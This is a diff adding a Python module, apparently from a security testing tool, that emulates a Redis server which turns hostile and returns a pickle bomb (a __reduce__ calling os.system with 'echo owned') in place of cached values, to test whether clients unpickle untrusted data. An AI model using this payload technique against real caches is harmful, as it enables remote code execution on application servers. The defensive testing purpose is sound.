@@ -1,0 +1,77 @@
+"""A Redis that, once it has turned, gives back a pickle that runs a program when it is loaded.
+
+Caches that keep pickles (Django's, Flask-Caching's, hand-written ones) load whatever the server says was stored.
+"""
+
+import pickle
+
+from backwatch.attack.servers import HostileServer, Session
+
+COMMAND = "echo owned"
+"""What the pickle would run; nothing here ever loads it."""
+
+
+class _Bomb:
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        import os
+
+        return os.system, (COMMAND,)
+
+
+BOMB = pickle.dumps(_Bomb())
+
+
+class Redis(HostileServer):
+    """Sessions are cached in it; then it returns a pickle bomb."""
+
+    name = "redis"
+    attack = "returns a pickle that would run a program (os.system) in place of a cached value"
+    reference = "https://docs.python.org/3/library/pickle.html; ATT&CK T1059.006"
+    driver = "redis"
+    rule = "hostile-payload"
+
+    def serve(self, session: Session) -> None:
+        """TLS from the first byte, then commands."""
+        session.secure()
+        kept: dict[bytes, bytes] = {}
+        three = False
+        while True:
+            command = self._command(session)
+            verb = command[0].upper() if command else b""
+            if verb == b"HELLO":
+                three = len(command) > 1 and command[1] == b"3"
+                session.send(self._hello(three=three))
+            elif verb == b"GET" and len(command) > 1:
+                value = BOMB if self.hostile else kept.get(command[1])
+                session.send((b"_\r\n" if three else b"$-1\r\n") if value is None else _bulk(value))
+            elif verb in (b"SET", b"SETEX") and len(command) > 2:
+                kept[command[1]] = command[-1] if verb == b"SETEX" else command[2]
+                session.send(b"+OK\r\n")
+            elif verb == b"PING":
+                session.send(b"+PONG\r\n")
+            else:
+                session.send(b"+OK\r\n")
+
+    @staticmethod
+    def _hello(*, three: bool) -> bytes:
+        facts = ((b"server", b"redis"), (b"version", b"7.2.4"), (b"role", b"master"))
+        head = b"%%%d\r\n" % (len(facts) + 1) if three else b"*%d\r\n" % (2 * len(facts) + 2)
+        return head + b"".join(_bulk(name) + _bulk(value) for name, value in facts) + _bulk(b"proto") + (
+            b":3\r\n" if three else b":2\r\n"
+        )
+
+    @staticmethod
+    def _command(session: Session) -> list[bytes]:
+        head = session.line()
+        if not head.startswith(b"*"):
+            return head.split()
+        parts: list[bytes] = []
+        for _ in range(min(int(head[1:]), 1024)):
+            length = int(session.line()[1:])
+            parts.append(session.read(length))
+            session.read(2)
+        return parts
+
+
+def _bulk(value: bytes) -> bytes:
+    return b"$%d\r\n%s\r\n" % (len(value), value)
